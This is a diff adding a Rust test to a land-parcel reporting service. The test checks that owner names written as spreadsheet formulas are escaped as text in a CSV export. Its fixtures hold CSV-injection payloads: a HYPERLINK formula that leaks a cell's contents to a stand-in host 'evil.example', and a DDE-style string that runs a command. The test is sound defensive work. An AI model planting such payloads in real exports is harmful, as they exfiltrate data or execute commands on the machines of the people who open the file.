@@ -325,6 +325,45 @@ async fn the_csv_adds_up_and_names_real_parcels() {
     assert_eq!(summary[&("land".to_string(), "total".to_string())].0, 7);
 }
 
+#[tokio::test]
+async fn a_firm_named_like_a_formula_is_written_as_text_in_the_csv_report() {
+    let app = spawn_empty().await;
+    let gis = app.token(Role::Gis, "gis").await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"详情")"#;
+    let mut zombie = parcel("Z-FORMULA", 125.3760, 43.8400, "south", "M1", "zombie");
+    zombie["properties"]["owner"] = json!(hyperlink);
+    let mut idle = parcel("I-SUM", 125.3900, 43.8450, "south", "M1", "idle");
+    idle["properties"]["owner"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+    let parcels = json!({"type": "FeatureCollection", "features": [zombie, idle]});
+    let r = app.post_import("", parcels.to_string(), Some(&gis)).await;
+    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
+
+    let r = app.get("/reports/land-reserve?f=csv").await;
+    assert_eq!(r.status(), 200);
+    let text = r.text().await.unwrap();
+    let rows = parse_csv(text.strip_prefix('\u{feff}').unwrap());
+    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    let owner = |parcel: &str| {
+        let row = rows
+            .iter()
+            .find(|row| row[col("section")] == "candidate" && row[col("label")] == parcel)
+            .unwrap_or_else(|| panic!("{parcel} is a reserve candidate"));
+        // Its figures stay numbers a spreadsheet adds up.
+        assert!(row[col("area_m2")].parse::<f64>().is_ok(), "{row:?}");
+        row[col("owner")].clone()
+    };
+    assert_eq!(owner("Z-FORMULA"), format!("'{hyperlink}"));
+    assert_eq!(owner("I-SUM"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell starts a formula: {cell:?} in {row:?}"
+            );
+        }
+    }
+}
+
 /// A minimal RFC 4180 reader (quoted fields with commas, quotes and line breaks).
 fn parse_csv(text: &str) -> Vec<Vec<String>> {
     let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
